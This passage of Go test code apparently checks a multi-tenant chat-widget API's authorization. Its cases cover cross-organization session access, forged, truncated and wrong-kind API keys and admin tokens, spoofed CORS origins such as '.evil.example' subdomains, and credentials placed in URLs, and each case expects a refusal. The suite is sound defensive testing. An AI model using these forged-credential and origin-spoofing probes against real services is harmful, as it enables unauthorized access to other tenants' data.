		widgetCase(ClassOtherDevice, "B1 (org B) reads A1's session with B's widget token", "GET", sessionPath(sA1), pkB, tCB1, "", hiddenWant),
		widgetCase(ClassOtherDevice, "B1 (org B) posts to A1's session", "POST", messagesPath(sA1), pkB, tCB1, attackContent, hiddenWant),
		widgetCase(ClassOtherDevice, "B's verified victim reads A's victim session", "GET", sessionPath(sV), pkB,
			func(f *Fixture) string { return f.VB }, "", hiddenWant),
		widgetCase(ClassOtherDevice, "A2 lists with A1's cursor", "GET", func(f *Fixture) string {
			return "/v1/widget/sessions?cursor=" + url.QueryEscape(f.CursorA1)
		}, nil, tCA2, "", ok(listWithin(ids(sA2)))),
		widgetCase(ClassOtherDevice, "A2 lists with org A's server-listing cursor", "GET", func(f *Fixture) string {
			return "/v1/widget/sessions?cursor=" + url.QueryEscape(f.CursorOrgA)
		}, nil, tCA2, "", ok(listWithin(ids(sA2)))),
		widgetCase(ClassOtherDevice, "A2 lists its own sessions only", "GET", fixed("/v1/widget/sessions?limit=100"), nil, tCA2, "", ok(listExactly(ids(sA2)))),
	}
}

func claimedEmailCases() []Case {
	return []Case{
		widgetCase(ClassClaimedEmail, "A3 (claimed the victim's email) lists only its own session",
			"GET", fixed("/v1/widget/sessions"), nil, tCA3, "", ok(listExactly(ids(sA3)))),
		widgetCase(ClassClaimedEmail, "A3 lists ws-1: nothing", "GET", fixed("/v1/widget/sessions?external_id="+BoundExt), nil, tCA3, "",
			ok(listExactly(func(*Fixture) []string { return nil }))),
		widgetCase(ClassClaimedEmail, "A3 reads the victim's session", "GET", sessionPath(sV), nil, tCA3, "", hiddenWant),
		widgetCase(ClassClaimedEmail, "A3 reads the victim's ws-1 session", "GET", sessionPath(sVws1), nil, tCA3, "", hiddenWant),
		widgetCase(ClassClaimedEmail, "A3 posts to the victim's session", "POST", messagesPath(sV), nil, tCA3, attackContent, hiddenWant),
		widgetCase(ClassClaimedEmail, "A3's /me is a contact, not the victim", "GET", fixed("/v1/widget/me"), nil, tCA3, "", ok(meIsContact(fixed("")))),
	}
}

func externalIDCases() []Case {
	mismatch := refusal(403, externalIDMismatch)
	return []Case{
		widgetCase(ClassExternalID, "create in ws-2 with a ws-1 token", "POST", fixed("/v1/widget/sessions"), nil, tVExt, attackSessionOtherExt, mismatch),
		widgetCase(ClassExternalID, "create in WS-1 (case changed)", "POST", fixed("/v1/widget/sessions"), nil, tVExt, `{"external_id":"WS-1"}`, mismatch),
		widgetCase(ClassExternalID, "create in \"ws-1 \" (trailing space)", "POST", fixed("/v1/widget/sessions"), nil, tVExt, `{"external_id":"ws-1 "}`, mismatch),
		{Class: ClassExternalID, Name: "create in ws-2 with an Idempotency-Key", Want: mismatch, Req: func(f *Fixture) Request {
			req := widgetReq("POST", "/v1/widget/sessions", f.A.WidgetToken, f.VExt, attackSessionOtherExt)
			req.Header.Set("Idempotency-Key", "attack-"+uuid.NewString())
			return req
		}},
		widgetCase(ClassExternalID, "list ws-2 with a ws-1 token", "GET", fixed("/v1/widget/sessions?external_id="+OtherExt), nil, tVExt, "", mismatch),
		widgetCase(ClassExternalID, "list WS-1 (case changed)", "GET", fixed("/v1/widget/sessions?external_id=WS-1"), nil, tVExt, "", mismatch),
		widgetCase(ClassExternalID, "list without external_id: only ws-1", "GET", fixed("/v1/widget/sessions"), nil, tVExt, "", ok(listExactly(ids(sVws1)))),
		widgetCase(ClassExternalID, "read the same user's ws-2 session", "GET", sessionPath(sVws2), nil, tVExt, "", hiddenWant),
		widgetCase(ClassExternalID, "read the same user's session without external id", "GET", sessionPath(sV), nil, tVExt, "", hiddenWant),
		widgetCase(ClassExternalID, "post to the same user's ws-2 session", "POST", messagesPath(sVws2), nil, tVExt, attackContent, hiddenWant),
		widgetCase(ClassExternalID, "read a contact's ws-1 session", "GET", sessionPath(sA1b), nil, tVExt, "", hiddenWant),
	}
}

// ---- api keys, admin token, credential kinds ----

// serverCase is an org-server or vendor call with Authorization auth(f).
func serverCase(class, name, method string, path func(f *Fixture) string, auth func(f *Fixture) string, body func(f *Fixture) string, want Want) Case {
	return Case{Class: class, Name: name, Want: want, Req: func(f *Fixture) Request {
		b := ""
		if body != nil {
			b = body(f)
		}
		return serverReq(method, path(f), auth(f), b)
	}}
}

func body(s string) func(*Fixture) string { return func(*Fixture) string { return s } }

func bearerOf(s func(f *Fixture) string) func(f *Fixture) string {
	return func(f *Fixture) string { return "Bearer " + s(f) }
}

// serverRoutes are the org-server routes, each with a body that would store
// something if let through.
var serverRoutes = []struct {
	name, method string
	path         func(f *Fixture) string
	body         func(f *Fixture) string
}{
	{"GET /v1/sessions", "GET", fixed("/v1/sessions"), nil},
	{"GET /v1/sessions/{id}", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 }, nil},
	{"POST /v1/sessions/{id}/messages", "POST", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 + "/messages" }, body(attackContent)},
	{"POST /v1/users/authenticate", "POST", fixed("/v1/users/authenticate"), body(attackAuthenticateBody)},
	{"POST /v1/users/revoke", "POST", fixed("/v1/users/revoke"), body(attackRevokeVictimBody)},
}

// adminRoutes are the vendor routes, each of which would change something.
var adminRoutes = []struct {
	name, method string
	path         func(f *Fixture) string
	body         func(f *Fixture) string
}{
	{"POST /v1/admin/orgs", "POST", fixed("/v1/admin/orgs"), probeOrgBody},
	{"POST /v1/admin/orgs/{A}/api-keys", "POST", func(f *Fixture) string { return "/v1/admin/orgs/" + f.A.ID + "/api-keys" }, nil},
	{"DELETE /v1/admin/orgs/{A}/api-keys/{A's key}", "DELETE", func(f *Fixture) string {
		return "/v1/admin/orgs/" + f.A.ID + "/api-keys/" + f.A.APIKeyID
	}, nil},
}

func apiKeyOtherOrgCases() []Case {
	keyB := bearerOf(func(f *Fixture) string { return f.B.APIKey })
	keyA := bearerOf(func(f *Fixture) string { return f.A.APIKey })
	return []Case{
		serverCase(ClassAPIKeyOtherOrg, "B's key reads A's session", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 }, keyB, nil, refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "B's key reads A's victim session", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SV }, keyB, nil, refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "B's key posts to A's session", "POST", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 + "/messages" }, keyB, body(attackContent), refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "A's key reads B's session", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SB1 }, keyA, nil, refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "B's key lists: only B's sessions", "GET", fixed("/v1/sessions?limit=100"), keyB, nil, ok(listExactly(ids(sB1, sBV)))),
		serverCase(ClassAPIKeyOtherOrg, "B's key lists the victim's user_id: only B's", "GET", fixed("/v1/sessions?user_id="+VictimID), keyB, nil, ok(listExactly(ids(sBV)))),
		serverCase(ClassAPIKeyOtherOrg, "B's key lists with A's cursor", "GET", func(f *Fixture) string {
			return "/v1/sessions?cursor=" + url.QueryEscape(f.CursorOrgA)
		}, keyB, nil, ok(listWithin(ids(sB1, sBV)))),
		serverCase(ClassAPIKeyOtherOrg, "B's key exports A's contact", "GET", func(f *Fixture) string { return "/v1/contacts/" + f.ContactA1 + "/export" }, keyB, nil, refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "B's key deletes A's contact", "DELETE", func(f *Fixture) string { return "/v1/contacts/" + f.ContactA1 }, keyB, nil, refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "B's key on a deletion that is not B's", "GET", func(f *Fixture) string { return "/v1/deletions/" + f.Missing }, keyB, nil, refusal(404, notFound)),
		serverCase(ClassAPIKeyOtherOrg, "B's key on A's admin route", "POST", func(f *Fixture) string { return "/v1/admin/orgs/" + f.A.ID + "/api-keys" }, keyB, nil, refusal(401, unauthorized)),
	}
}

func apiKeyDeletedCases() []Case {
	var cs []Case
	for _, rt := range serverRoutes {
		cs = append(cs, serverCase(ClassAPIKeyDeleted, "deleted key: "+rt.name, rt.method, rt.path,
			bearerOf(func(f *Fixture) string { return f.DeletedKey }), rt.body, refusal(401, unauthorized)))
	}
	return cs
}

func apiKeyForgedCases() []Case {
	keys := []struct {
		name string
		key  func(f *Fixture) string
	}{
		{"a random sk_ key", func(*Fixture) string { return "sk_" + randHex(24) }},
		{"A's key with its last character changed", func(f *Fixture) string {
			k := f.A.APIKey
			last := "A"
			if strings.HasSuffix(k, "A") {
				last = "B"
			}
			return k[:len(k)-1] + last
		}},
		{"A's key with a character appended", func(f *Fixture) string { return f.A.APIKey + "x" }},
		{"A's key truncated", func(f *Fixture) string { return f.A.APIKey[:len(f.A.APIKey)-1] }},
		{"A's key in upper case", func(f *Fixture) string { return "sk_" + strings.ToUpper(f.A.APIKey[3:]) }},
		{"A's key with prefix pk_", func(f *Fixture) string { return "pk_" + f.A.APIKey[3:] }},
		{"the SHA-256 (base64url) of A's key", func(f *Fixture) string {
			s := sha256.Sum256([]byte(f.A.APIKey))
			return base64.RawURLEncoding.EncodeToString(s[:])
		}},
		{"the SHA-256 (hex) of A's key", func(f *Fixture) string {
			s := sha256.Sum256([]byte(f.A.APIKey))
			return "sk_" + hex.EncodeToString(s[:])
		}},
		{"A's key id as a key", func(f *Fixture) string { return "sk_" + f.A.APIKeyID }},
	}
	var cs []Case
	for _, k := range keys {
		for _, rt := range []int{0, 4} { // GET /v1/sessions, POST /v1/users/revoke
			r := serverRoutes[rt]
			cs = append(cs, serverCase(ClassAPIKeyForged, k.name+": "+r.name, r.method, r.path, bearerOf(k.key), r.body, refusal(401, unauthorized)))
		}
	}
	for _, a := range []struct {
		name string
		auth func(f *Fixture) string
	}{
		{"A's key without the Bearer scheme", func(f *Fixture) string { return f.A.APIKey }},
		{"A's key with scheme Basic", func(f *Fixture) string { return "Basic " + f.A.APIKey }},
		{"A's key with scheme Token", func(f *Fixture) string { return "Token " + f.A.APIKey }},
		{"empty Bearer", fixed("Bearer ")},
		{"no Authorization", fixed("")},
	} {
		r := serverRoutes[4]
		cs = append(cs, serverCase(ClassAPIKeyForged, a.name+": "+r.name, r.method, r.path, a.auth, r.body, refusal(401, unauthorized)))
	}
	return cs
}

func adminForgedCases() []Case {
	auths := []struct {
		name string
		auth func(f *Fixture) string
	}{
		{"no Authorization", fixed("")},
		{"empty Bearer", fixed("Bearer ")},
		{"admin token with a character appended", func(f *Fixture) string { return "Bearer " + f.adminToken + "x" }},
		{"admin token truncated", func(f *Fixture) string { return "Bearer " + f.adminToken[:len(f.adminToken)-1] }},
		{"admin token in upper case", func(f *Fixture) string { return "Bearer " + strings.ToUpper(f.adminToken) }},
		{"admin token with scheme Basic", func(f *Fixture) string { return "Basic " + f.adminToken }},
		{"admin token without a scheme", func(f *Fixture) string { return f.adminToken }},
	}
	var cs []Case
	for _, a := range auths {
		for _, rt := range adminRoutes {
			cs = append(cs, serverCase(ClassAdminForged, a.name+": "+rt.name, rt.method, rt.path, a.auth, rt.body, refusal(401, unauthorized)))
		}
	}
	return cs
}

func wrongKindCases() []Case {
	var cs []Case
	// Widget token, admin token and user tokens as api keys.
	for _, k := range []struct {
		name string
		cred func(f *Fixture) string
	}{
		{"widget token as api key", func(f *Fixture) string { return f.A.WidgetToken }},
		{"admin token as api key", func(f *Fixture) string { return f.adminToken }},
		{"contact token as api key", tCA1},
		{"verified token as api key", tV},
	} {
		for _, rt := range []int{0, 3, 4} {
			r := serverRoutes[rt]
			cs = append(cs, serverCase(ClassWrongKind, k.name+": "+r.name, r.method, r.path, bearerOf(k.cred), r.body, refusal(401, unauthorized)))
		}
	}
	// Api key, widget token, verified token as the admin token.
	for _, k := range []struct {
		name string
		cred func(f *Fixture) string
	}{
		{"api key as admin token", func(f *Fixture) string { return f.A.APIKey }},
		{"widget token as admin token", func(f *Fixture) string { return f.A.WidgetToken }},
		{"verified token as admin token", tV},
	} {
		for _, rt := range adminRoutes {
			cs = append(cs, serverCase(ClassWrongKind, k.name+": "+rt.name, rt.method, rt.path, bearerOf(k.cred), rt.body, refusal(401, unauthorized)))
		}
	}
	// Api key, admin token, user token as the widget token.
	for _, k := range []struct {
		name string
		pk   func(f *Fixture) string
	}{
		{"api key as widget token", func(f *Fixture) string { return f.A.APIKey }},
		{"admin token as widget token", func(f *Fixture) string { return f.adminToken }},
		{"contact token as widget token", tCA1},
	} {
		cs = append(cs,
			Case{Class: ClassWrongKind, Name: k.name + ": POST /v1/widget/contacts", Want: refusal(401, unauthorized), Req: func(f *Fixture) Request {
				return widgetReq("POST", "/v1/widget/contacts", k.pk(f), "", fmt.Sprintf(attackContactNameChange, f.DevA1))
			}},
			Case{Class: ClassWrongKind, Name: k.name + ": POST /v1/widget/sessions", Want: refusal(401, unauthorized), Req: func(f *Fixture) Request {
				return widgetReq("POST", "/v1/widget/sessions", k.pk(f), f.CA1, attackSessionBody)
			}},
		)
	}
	// Api key, widget token, admin token as the user token.
	cs = append(cs, tokenCases(ClassWrongKind, refusal(401, invalidToken), writeRoutes,
		userToken{name: "api key as user token", make: func(f *Fixture) string { return f.A.APIKey }},
		userToken{name: "widget token as user token", make: func(f *Fixture) string { return f.A.WidgetToken }},
		userToken{name: "admin token as user token", make: func(f *Fixture) string { return f.adminToken }},
	)...)
	// The widget token alone, in Authorization.
	cs = append(cs, Case{Class: ClassWrongKind, Name: "widget token in Authorization, no X-Widget-Token: POST /v1/widget/sessions",
		Want: refusal(401, unauthorized), Req: func(f *Fixture) Request {
			return widgetReq("POST", "/v1/widget/sessions", "", f.A.WidgetToken, attackSessionBody)
		}})
	return cs
}

// ---- browser origins ----

func corsOriginCases() []Case {
	origins := []struct {
		name   string
		origin func(f *Fixture) string
	}{
		{"an unknown origin", func(f *Fixture) string { return f.EvilOrigin }},
		{"origin null", fixed("null")},
		{"A's origin as a subdomain of another", func(f *Fixture) string { return f.A.Origin + ".evil.example" }},
		{"A's host over http", func(f *Fixture) string { return "http://" + strings.TrimPrefix(f.A.Origin, "https://") }},
		{"A's host on another port", func(f *Fixture) string { return f.A.Origin + ":8443" }},
		{"a subdomain of A's host", func(f *Fixture) string { return "https://www." + strings.TrimPrefix(f.A.Origin, "https://") }},
		{"A's origin with a trailing slash", func(f *Fixture) string { return f.A.Origin + "/" }},
		{"the origin org B allows", func(f *Fixture) string { return f.B.Origin }},
		{"two origins, A's first", func(f *Fixture) string { return f.A.Origin + ", " + f.EvilOrigin }},
	}
	deny := Want{Status: 403, Code: originNotAllowed, NoACAO: true}
	var cs []Case
	for _, o := range origins {
		cs = append(cs, Case{Class: ClassCORSOrigin, Name: o.name + ": POST /v1/widget/contacts", Want: deny, Req: func(f *Fixture) Request {
			req := widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", fmt.Sprintf(attackContactNameChange, f.DevA1))
			req.Header.Set("Origin", o.origin(f))
			return req
		}})
	}
	for _, o := range origins[:2] {
		for _, rt := range []route{routeMe, routeCreate, routeList, routeGet, routePost} {
			cs = append(cs, Case{Class: ClassCORSOrigin, Name: o.name + ": " + rt.name, Want: deny, Req: func(f *Fixture) Request {
				req := widgetReq(rt.method, rt.path(f), f.A.WidgetToken, f.CA1, rt.body)
				req.Header.Set("Origin", o.origin(f))
				return req
			}})
		}
	}
	return cs
}

func corsPreflightCases() []Case {
	origins := []struct {
		name   string
		origin func(f *Fixture) string
	}{
		{"an unknown origin", func(f *Fixture) string { return f.EvilOrigin }},
		{"origin null", fixed("null")},
		{"origin https: (a prefix of every https origin)", fixed("https:")},
		{"origin https:/ (a prefix of every https origin)", fixed("https:/")},
		{"origin http:", fixed("http:")},
		{"A's origin as a subdomain of another", func(f *Fixture) string { return f.A.Origin + ".evil.example" }},
		{"A's origin with a path", func(f *Fixture) string { return f.A.Origin + "/x" }},
		{"the probe origin", func(f *Fixture) string { return f.ProbeOrigin }},
	}
	deny := Want{Status: 403, Code: originNotAllowed, NoACAO: true}
	var cs []Case
	for _, o := range origins {
		for _, p := range []struct {
			name   string
			path   func(f *Fixture) string
			method string
		}{
			{"/v1/widget/contacts", fixed("/v1/widget/contacts"), "POST"},
			{"/v1/widget/sessions/{id}/messages", func(f *Fixture) string { return "/v1/widget/sessions/" + f.SA1 + "/messages" }, "POST"},
		} {
			cs = append(cs, Case{Class: ClassCORSPreflight, Name: o.name + ": OPTIONS " + p.name, Want: deny, Req: func(f *Fixture) Request {
				return Request{Method: "OPTIONS", Path: p.path(f), Header: hdr("Origin", o.origin(f),
					"Access-Control-Request-Method", p.method, "Access-Control-Request-Headers", "authorization,content-type,x-widget-token")}
			}})
		}
	}
	return cs
}

func corsServerRouteCases() []Case {
	originA := func(f *Fixture) string { return f.A.Origin }
	evil := func(f *Fixture) string { return f.EvilOrigin }
	with := func(origin func(f *Fixture) string, c Case) Case {
		req := c.Req
		c.Req = func(f *Fixture) Request {
			r := req(f)
			r.Header.Set("Origin", origin(f))
			return r
		}
		c.Want.NoCORS = true
		return c
	}
	keyA := bearerOf(func(f *Fixture) string { return f.A.APIKey })
	wrong := fixed("Bearer sk_" + strings.Repeat("0", 40))
	cs := []Case{
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, A's key: GET /v1/sessions", "GET", fixed("/v1/sessions"), keyA, nil, ok(nil))),
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, A's key: GET /v1/sessions/{id}", "GET", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 }, keyA, nil, ok(nil))),
		with(evil, serverCase(ClassCORSServerRoutes, "unknown origin, A's key: GET /v1/sessions", "GET", fixed("/v1/sessions"), keyA, nil, ok(nil))),
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, wrong key: POST /v1/users/authenticate", "POST", fixed("/v1/users/authenticate"), wrong, body(attackAuthenticateBody), refusal(401, unauthorized))),
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, no key: POST /v1/users/revoke", "POST", fixed("/v1/users/revoke"), fixed(""), body(attackRevokeVictimBody), refusal(401, unauthorized))),
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, no key: POST /v1/sessions/{id}/messages", "POST", func(f *Fixture) string { return "/v1/sessions/" + f.SA1 + "/messages" }, fixed(""), body(attackContent), refusal(401, unauthorized))),
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, no token: POST /v1/admin/orgs", "POST", fixed("/v1/admin/orgs"), fixed(""), probeOrgBody, refusal(401, unauthorized))),
		with(originA, serverCase(ClassCORSServerRoutes, "A's origin, wrong token: DELETE /v1/admin/orgs/{A}/api-keys/{id}", "DELETE", func(f *Fixture) string {
			return "/v1/admin/orgs/" + f.A.ID + "/api-keys/" + f.A.APIKeyID
		}, wrong, nil, refusal(401, unauthorized))),
	}
	for _, p := range []string{"/v1/sessions", "/v1/users/authenticate", "/v1/admin/orgs"} {
		cs = append(cs, Case{Class: ClassCORSServerRoutes, Name: "A's origin: OPTIONS " + p,
			Want: Want{Status: 405, Code: methodNotAllowed, NoCORS: true},
			Req: func(f *Fixture) Request {
				return Request{Method: "OPTIONS", Path: p, Header: hdr("Origin", f.A.Origin,
					"Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type")}
			}})
	}
	return cs
}

// ---- security headers ----

func securityHeaderCases() []Case {
	c := func(name string, want Want, req func(f *Fixture) Request) Case {
		return Case{Class: ClassSecurityHeaders, Name: name, Want: want, Req: req}
	}
	return []Case{
		c("GET /.well-known/jwks.json (public members only)", ok(publicJWKS), func(*Fixture) Request {
			return Request{Method: "GET", Path: "/.well-known/jwks.json"}
		}),
		c("GET /v1/nope (404)", refusal(404, notFound), func(*Fixture) Request { return Request{Method: "GET", Path: "/v1/nope"} }),
		c("PUT /v1/sessions (405)", refusal(405, methodNotAllowed), func(*Fixture) Request { return Request{Method: "PUT", Path: "/v1/sessions"} }),
		c("PUT /v1/widget/me (405)", refusal(405, methodNotAllowed), func(f *Fixture) Request {
			return widgetReq("PUT", "/v1/widget/me", f.A.WidgetToken, f.CA1, "")
		}),
		c("GET /v1/widget/me (200)", ok(nil), func(f *Fixture) Request { return widgetReq("GET", "/v1/widget/me", f.A.WidgetToken, f.CA1, "") }),
		c("GET /v1/sessions (200)", ok(nil), func(f *Fixture) Request { return serverReq("GET", "/v1/sessions", "Bearer "+f.A.APIKey, "") }),
		c("POST /v1/widget/contacts with broken JSON (400)", refusal(400, "invalid_json"), func(f *Fixture) Request {
			return widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", "{")
		}),
		c("POST /v1/widget/contacts with a bad device id (400)", refusal(400, "invalid_device_id"), func(f *Fixture) Request {
			return widgetReq("POST", "/v1/widget/contacts", f.A.WidgetToken, "", `{"device_id":"not-a-uuid"}`)
		}),
		c("POST /v1/admin/orgs without a token (401)", refusal(401, unauthorized), func(f *Fixture) Request {
			return serverReq("POST", "/v1/admin/orgs", "", probeOrgBody(f))
		}),
		c("OPTIONS preflight from A's origin (204)", Want{Status: 204}, func(f *Fixture) Request {
			return Request{Method: "OPTIONS", Path: "/v1/widget/contacts", Header: hdr("Origin", f.A.Origin, "Access-Control-Request-Method", "POST")}
		}),
	}
}

// publicJWKS: every key is an Ed25519 public key for EdDSA, with no private
// or symmetric member.
func publicJWKS(_ *Fixture, r *Response) []string {
	var set struct {
		Keys []map[string]any `json:"keys"`
	}
	if err := json.Unmarshal(r.Body, &set); err != nil || len(set.Keys) == 0 {
		return []string{"the JWKS has no keys"}
	}
	var p []string
	for i, k := range set.Keys {
		for _, private := range []string{"d", "p", "q", "dp", "dq", "qi", "k", "oth"} {
			if _, ok := k[private]; ok {
				p = append(p, fmt.Sprintf("key %d has the private member %q", i, private))
			}
		}
		if k["kty"] != "OKP" || k["crv"] != "Ed25519" || k["alg"] != "EdDSA" {
			p = append(p, fmt.Sprintf("key %d is not an Ed25519 EdDSA key", i))
		}
	}
	return p
}

// credentialInURLCases: a careless client puts a credential in the URL; the
// answer must not repeat it (the runner checks every answer for every
// credential of the fixture).
func credentialInURLCases() []Case {
	c := func(name string, want Want, req func(f *Fixture) Request) Case {
		return Case{Class: ClassCredentialInURL, Name: name, Want: want, Req: req}
	}
	return []Case{
		c("api key in an unknown path", refusal(404, notFound), func(f *Fixture) Request {
			return serverReq("GET", "/v1/keys/"+f.A.APIKey, "", "")
		}),
		c("admin token in an unknown path", refusal(404, notFound), func(f *Fixture) Request {
			return serverReq("GET", "/v1/admin/"+f.adminToken, "", "")
		}),
		c("api key as a session id", refusal(404, notFound), func(f *Fixture) Request {
			return serverReq("GET", "/v1/sessions/"+f.A.APIKey, "Bearer "+f.A.APIKey, "")
		}),
		c("api key in the query, no Authorization", refusal(401, unauthorized), func(f *Fixture) Request {
			return serverReq("GET", "/v1/sessions?api_key="+f.A.APIKey, "", "")
		}),
		c("user token in the query, no Authorization", refusal(401, unauthorized), func(f *Fixture) Request {
			return widgetReq("GET", "/v1/widget/me?access_token="+f.CA1, f.A.WidgetToken, "", "")
		}),
		c("api key as the cursor", Want{Status: 400, Code: "invalid_request"}, func(f *Fixture) Request {
			return serverReq("GET", "/v1/sessions?cursor="+f.A.APIKey, "Bearer "+f.A.APIKey, "")
		}),
	}
}
